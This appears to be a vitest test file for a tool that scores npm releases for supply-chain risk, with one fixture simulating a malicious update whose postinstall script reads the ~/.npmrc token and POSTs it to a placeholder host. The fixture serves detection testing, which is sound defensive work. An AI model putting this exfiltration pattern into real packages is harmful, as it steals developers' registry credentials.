import { describe, expect, it } from 'vitest';
import { analyzeSide } from '../analyze-side.js';
import { computeDelta } from '../delta.js';
import { FEATURE_NAMES, FEATURES, peerGroup, releaseFeatures, semverJump } from './features.js';

const files = (entries: Record<string, string>) =>
  new Map(Object.entries(entries).map(([path, text]) => [path, { bytes: new TextEncoder().encode(text) }]));

const manifest = (version: string, extra: Record<string, unknown> = {}) =>
  JSON.stringify({ name: 'xml-kit', version, main: 'index.js', ...extra });

const PARSE = 'function parse(xml) {\n  return xml.split("<").length;\n}\nmodule.exports = { parse };\n';

const side = (version: string, extra: Record<string, string> = {}, manifestExtra = {}) =>
  analyzeSide(
    files({
      'package.json': manifest(version, manifestExtra),
      'index.js': "module.exports = require('./lib/parse.js');\n",
      'lib/parse.js': PARSE,
      ...extra,
    }),
  );

const features = (from: ReturnType<typeof side>, to: ReturnType<typeof side>, packument?: unknown) =>
  releaseFeatures({ from, to, delta: computeDelta(from, to), ...(packument ? { packument } : {}) });

describe('releaseFeatures', () => {
  it('is all zeros for a release that changes nothing but its version', () => {
    const { values } = features(side('1.0.0'), side('1.0.1'));
    for (const spec of FEATURES) {
      if (spec.name.startsWith('own_')) {
        expect(values[spec.name], spec.name).toBeUndefined();
        continue;
      }
      if (spec.family === 'volume') continue;
      expect(values[spec.name], spec.name).toBe(0);
    }
    // package.json changed (its version): one file of three.
    expect(values.files_changed_share).toBeCloseTo(1 / 3);
    expect(values.files_added_share).toBe(0);
  });

  it('measures an xmlrpc-style turn: install script, network, a host, a credential path', () => {
    const to = side(
      '1.0.1',
      {
        'lib/telemetry.js': [
          "const fs = require('fs');",
          "const os = require('os');",
          "const https = require('https');",
          "const token = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8');",
          "https.request('https://collector.invalid/t', { method: 'POST' }).end(token);",
        ].join('\n'),
      },
      { scripts: { postinstall: 'node lib/telemetry.js' } },
    );
    const result = features(side('1.0.0'), to);
    expect(result.values).toMatchObject({
      gains_install_scripts: 1,
      gains_network: 1,
      install_script_changes: 1,
      new_hosts: 1,
      files_added_share: 0.25,
    });
    expect(result.values.new_sensitive_paths).toBeGreaterThanOrEqual(1);
    expect(result.details.new_hosts).toEqual(['collector.invalid']);
    expect(result.details.install_script_changes).toEqual(['postinstall: node lib/telemetry.js']);
    // The peer group is the OLD release's: the attacker's install script does not move it.
    expect(result.peer.kind).toBe('lib');
  });

  it('does not count a build step (prepare) or source maps as an install hook or minified code', () => {
    const line = `${'x'.repeat(5000)}\n`;
    const to = side(
      '2.0.0',
      { 'dist/index.js.map': `{"version":3,"mappings":"${line}"}` },
      {
        scripts: { prepare: 'tsc -p .', preprepare: 'rm -rf dist' },
      },
    );
    const result = features(side('1.0.0'), to);
    expect(result.values.gains_install_scripts).toBe(0);
    expect(result.values.install_script_changes).toBe(0);
    expect(result.values.new_minified_files).toBe(0);
    expect(peerGroup(to).kind).toBe('lib');
  });

  it('gives every listed feature a value (own-history ones need a registry document)', () => {
    const { values } = features(side('1.0.0'), side('1.1.0'));
    const missing = FEATURE_NAMES.filter((name) => values[name] === undefined);
    expect(missing).toEqual(['own_new_dependencies_rarity', 'own_version_jump_rarity']);
  });

  it("reads the package's own history of added dependencies and version steps", () => {
    const versions: Record<string, unknown> = {};
    for (const version of ['1.0.0', '1.0.1', '1.0.2', '1.0.3', '1.0.4', '1.0.5', '1.1.0'])
      versions[version] = { name: 'xml-kit', version, dependencies: { sax: '^1.0.0' } };
    versions['1.2.0-beta.1'] = { name: 'xml-kit', version: '1.2.0-beta.1', dependencies: { x: '1' } };
    const packument = { name: 'xml-kit', versions };
    const from = side('1.1.0', {}, { dependencies: { sax: '^1.0.0' } });
    const to = side('1.2.0', {}, { dependencies: { sax: '^1.0.0', 'fresh-dep': '0.0.1' } });
    const result = features(from, to, packument);
    // 6 earlier steps (the prerelease ignored): none added a dependency, one was a minor step.
    expect(result.values.own_new_dependencies_rarity).toBeCloseTo(-Math.log2(0.5 / 7), 3);
    expect(result.values.own_version_jump_rarity).toBeCloseTo(-Math.log2(1.5 / 7), 3);
    expect(result.details.own_new_dependencies_rarity).toEqual(['0 of its 6 earlier releases added one']);
    expect(result.values.new_dependencies).toBe(1);
    expect(result.values.semver_jump).toBe(1);
  });

  it('reads a hostile registry document without throwing', () => {
    const versions = JSON.parse(
      '{"__proto__": {"dependencies": {"x": "1"}}, "1.0.0": null, "1.0.1": [], "1.0.2": {"dependencies": "x"}, "banana": {}, "1.0.3": {"dependencies": {"a": 1}}, "1.0.4": {}}',
    );
    for (const packument of [null, [], { versions: [] }, { versions: 'x' }, { versions }]) {
      const { values } = features(side('1.0.4'), side('1.1.0'), packument);
      expect(values.semver_jump).toBe(1);
    }
    const { values } = features(side('1.0.4'), side('1.1.0'), { versions });
    expect(values.own_version_jump_rarity).toBeGreaterThan(0);
  });

  it('says nothing of a history shorter than four steps', () => {
    const packument = {
      versions: { '1.0.0': {}, '1.0.1': {}, '1.0.2': {} },
    };
    const { values } = features(side('1.0.2'), side('1.1.0'), packument);
    expect(values.own_version_jump_rarity).toBeUndefined();
  });
});

describe('semverJump', () => {
  it.each([
    ['1.0.0', '1.0.1', 0],
    ['1.0.0', '1.4.0', 1],
    ['1.9.9', '2.0.0', 2],
    ['1.0.0', '3.0.0', 3],
    ['2.0.0', '1.0.0', 2],
    ['1.0.0', '2.0.0-rc.1', 2],
    ['not-semver', '1.0.0', 0],
  ])('%s → %s is %i', (from, to, jump) => {
    expect(semverJump(from, to)).toBe(jump);
  });
});

describe('peerGroup', () => {
  it('sorts packages by kind and file count', () => {
    expect(peerGroup(side('1.0.0')).key).toBe('lib/tiny');
    expect(peerGroup(side('1.0.0', {}, { scripts: { install: 'node-gyp rebuild' } })).kind).toBe('native');
    expect(peerGroup(side('1.0.0', {}, { bin: { kit: 'index.js' } })).kind).toBe('cli');
    const many = Object.fromEntries(Array.from({ length: 40 }, (_, i) => [`lib/m${i}.js`, PARSE]));
    expect(peerGroup(side('1.0.0', many)).size).toBe('medium');
    const types = analyzeSide(
      files({ 'package.json': JSON.stringify({ name: '@types/kit', version: '1.0.0' }), 'index.d.ts': '' }),
    );
    expect(peerGroup(types).kind).toBe('types');
  });
});
